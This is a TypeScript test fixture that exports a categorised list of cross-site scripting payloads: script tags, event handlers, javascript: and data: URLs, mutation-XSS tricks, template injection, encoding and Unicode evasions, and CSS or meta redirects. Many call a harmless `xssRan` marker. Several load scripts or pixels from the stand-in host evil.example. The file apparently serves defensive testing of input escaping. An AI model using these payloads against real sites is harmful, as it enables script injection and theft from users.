/**
 * What people have put into text fields to make a page run it, in our own writing. Each calls `xssRan`, opens a dialog,
 * leads away or asks `evil.example` for something if any page ever takes it for more than text.
 */

const SCRIPT = [
  `<script>xssRan()</script>`,
  `<ScRiPt>xssRan()</sCrIpT>`,
  `<script >xssRan()</script >`,
  `<script/x>xssRan()</script>`,
  `<script src=https://evil.example/a.js></script>`,
  `<script src=//evil.example/a.js></script>`,
  `<script src="data:text/javascript,xssRan()"></script>`,
  `<script type=module>xssRan()</script>`,
  `<script>alert(1)</script>`,
  `</script><script>xssRan()</script>`,
  `</title><script>xssRan()</script>`,
  `</textarea><script>xssRan()</script>`,
  `</style><script>xssRan()</script>`,
  `--><script>xssRan()</script>`,
  `]]><script>xssRan()</script>`,
  `<scr<script>ipt>xssRan()</scr</script>ipt>`,
  `<noscript><p title="</noscript><img src=x onerror=xssRan()>">`,
];

const HANDLERS = [
  `<img src=x onerror=xssRan()>`,
  `<img src=x onerror="alert(1)">`,
  `<img/src=x/onerror=xssRan()>`,
  `<IMG SRC=x OnErRoR=xssRan()>`,
  `<img src=x onerror=&#120;ssRan()>`,
  `<img src=x onerror\n=\nxssRan()>`,
  `<img src=https://evil.example/pixel.png>`,
  `<img srcset="https://evil.example/pixel.png 1x">`,
  `<image src=x onerror=xssRan()>`,
  `<body onload=xssRan()>`,
  `<body onpageshow=xssRan()>`,
  `<input autofocus onfocus=xssRan()>`,
  `<select autofocus onfocus=xssRan()></select>`,
  `<textarea autofocus onfocus=xssRan()></textarea>`,
  `<button autofocus onfocus=xssRan()>press</button>`,
  `<details open ontoggle=xssRan()>more</details>`,
  `<video src=x onerror=xssRan()></video>`,
  `<video><source onerror=xssRan()></video>`,
  `<audio src=x onerror=xssRan()></audio>`,
  `<marquee onstart=xssRan()>run</marquee>`,
  `<p tabindex=1 id=x onfocus=xssRan()>here</p>`,
  `<div onmouseover=xssRan() style=position:fixed;inset:0>over</div>`,
  `<div onpointerrawupdate=xssRan()>raw</div>`,
  `<div style=animation-name:x onanimationstart=xssRan()></div>`,
  `<form onsubmit=xssRan()><button>send</button></form>`,
  `<link rel=stylesheet href=x onerror=xssRan()>`,
  `<object data=x onerror=xssRan()></object>`,
];

const FRAMES = [
  `<iframe src="javascript:parent.xssRan()"></iframe>`,
  `<iframe src=https://evil.example/></iframe>`,
  `<iframe srcdoc="<script>parent.xssRan()</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.xssRan()&gt;"></iframe>`,
  `<iframe src="data:text/html,<script>xssRan()</script>"></iframe>`,
  `<iframe onload=xssRan()></iframe>`,
  `<frameset onload=xssRan()>`,
  `<object data="data:text/html,<script>xssRan()</script>"></object>`,
  `<object data="javascript:xssRan()"></object>`,
  `<embed src="javascript:xssRan()">`,
  `<embed src=https://evil.example/a.swf>`,
  `<portal src=https://evil.example/></portal>`,
  `<fencedframe src=https://evil.example/></fencedframe>`,
  `<dialog open onclose=xssRan()><form method=dialog><button>close</button></form></dialog>`,
];

const SVG_AND_MATH = [
  `<svg onload=xssRan()>`,
  `<svg/onload=xssRan()>`,
  `<svg><script>xssRan()</script></svg>`,
  `<svg><script>&#120;ssRan()</script></svg>`,
  `<svg><script href="data:text/javascript,xssRan()"/></svg>`,
  `<svg><animate onbegin=xssRan() attributeName=x dur=1s></svg>`,
  `<svg><set onbegin=xssRan() attributeName=x></svg>`,
  `<svg><a xlink:href="javascript:xssRan()"><text y=20>press</text></a></svg>`,
  `<svg><use href="https://evil.example/a.svg#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=xssRan()></foreignObject></svg>`,
  `<svg><style>@import url(https://evil.example/a.css)</style></svg>`,
  `<svg><image href=x onerror=xssRan() /></svg>`,
  `<math href="javascript:xssRan()">press</math>`,
  `<math><maction actiontype=statusline xlink:href="javascript:xssRan()">press</maction></math>`,
];

const MUTATION = [
  `<math><mtext><table><mglyph><style><img src=x onerror=xssRan()></style></mglyph></table></mtext></math>`,
  `<svg></p><style><a id="</style><img src=x onerror=xssRan()>">`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=xssRan()></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=xssRan()>`,
  `<noembed><img title="</noembed><img src=x onerror=xssRan()>"></noembed>`,
  `<xmp><p title="</xmp><img src=x onerror=xssRan()>">`,
  `<template><img src=x onerror=xssRan()></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=xssRan()></template></div>`,
  `<select><template><style><!--</style><a rel="--></style></select><img src=x onerror=xssRan()>">`,
  `<table><caption><svg><desc><table><script>xssRan()</script></table></desc></svg></caption></table>`,
  `<p id="\`\`onmouseover=xssRan()">old quotes</p>`,
];

const ADDRESSES = [
  `javascript:xssRan()`,
  `JaVaScRiPt:xssRan()`,
  ` javascript:xssRan()`,
  `java\tscript:xssRan()`,
  `java\nscript:xssRan()`,
  `javascript&colon;xssRan()`,
  `javascript://evil.example/%0axssRan()`,
  `data:text/html,<script>xssRan()</script>`,
  `data:text/html;base64,PHNjcmlwdD54c3NSYW4oKTwvc2NyaXB0Pg==`,
  `vbscript:xssRan()`,
  `//evil.example/`,
  `\\\\evil.example\\share`,
  `https://evil.example/`,
  `<a href="javascript:xssRan()" autofocus>press</a>`,
  `<a href=https://evil.example/ target=_top>press</a>`,
  `[press](javascript:xssRan())`,
  `![picture](https://evil.example/pixel.png)`,
];

const TEMPLATES = [
  `{{constructor.constructor('xssRan()')()}}`,
  `{{7*7}}`,
  '${xssRan()}',
  '`${xssRan()}`',
  `<%= xssRan() %>`,
  `#{xssRan()}`,
  `{name}`,
  `{count, plural, one {# <b>one</b>} other {#}}`,
  `{x, select, other {<script>xssRan()</script>}}`,
  `<b>bold</b>`,
  `'{'name'}' <b>''</b>`,
  `{`,
  `}`,
  `%LO_CONFIG%`,
  `{"__html":"<img src=x onerror=xssRan()>"}`,
  `$& $\` $' $1`,
];

const BREAKOUTS = [
  `"><img src=x onerror=xssRan()>`,
  `'><img src=x onerror=xssRan()>`,
  `\`><img src=x onerror=xssRan()>`,
  `" onmouseover="xssRan()" x="`,
  `' autofocus onfocus='xssRan()' x='`,
  `";xssRan();//`,
  `';xssRan();//`,
  `\\";xssRan();//`,
  `*/xssRan();/*`,
  `\u2028xssRan()//`,
  `&lt;img src=x onerror=xssRan()&gt;`,
  `&#60;script&#62;xssRan()&#60;/script&#62;`,
  `%3Cscript%3ExssRan()%3C/script%3E`,
  `\\u003cscript\\u003exssRan()\\u003c/script\\u003e`,
  `+ADw-script+AD4-xssRan()+ADw-/script+AD4-`,
];

const UNICODE = [
  `\uff1cscript\uff1exssRan()\uff1c/script\uff1e`,
  `\u02c2img src=x onerror=xssRan()\u02c3`,
  `<\u017fcript>xssRan()</\u017fcript>`,
  `<img src=x o\u00adnerror=xssRan()>`,
  `\u202e>tpircs/<)(naRssx>tpircs<`,
  `\u2066<script>xssRan()</script>\u2069`,
  `\ufeff<script>xssRan()</script>`,
  `<img src=x onerror=xssRan()\u00a0>`,
  `Z\u0351\u036b\u0343\u036a<img src=x onerror=xssRan()>\u0310\u0357`,
];

const STYLES_AND_HEADS = [
  `<style>@import 'https://evil.example/a.css'</style>`,
  `<style>*{background:url(https://evil.example/pixel.png)}</style>`,
  `<link rel=stylesheet href=https://evil.example/a.css>`,
  `<div style="background:url(https://evil.example/pixel.png)">x</div>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href=https://evil.example/>`,
];

const NAMES_OF_THINGS = [
  `__proto__`,
  `constructor`,
  `{"__proto__":{"polluted":true}}`,
  `<img name=getElementById><form id=root>`,
];

/** Every one of them once. */
export const PAYLOADS: readonly string[] = [
  ...SCRIPT,
  ...HANDLERS,
  ...FRAMES,
  ...SVG_AND_MATH,
  ...MUTATION,
  ...ADDRESSES,
  ...TEMPLATES,
  ...BREAKOUTS,
  ...UNICODE,
  ...STYLES_AND_HEADS,
  ...NAMES_OF_THINGS,
];

/** A first part that has something of every kind, or all of them. */
export const someOf = (count: number): readonly string[] => {
  const step = PAYLOADS.length / Math.min(count, PAYLOADS.length);
  return Array.from(
    { length: Math.min(count, PAYLOADS.length) },
    (_, at) => PAYLOADS[Math.floor(at * step)] ?? '',
  );
};
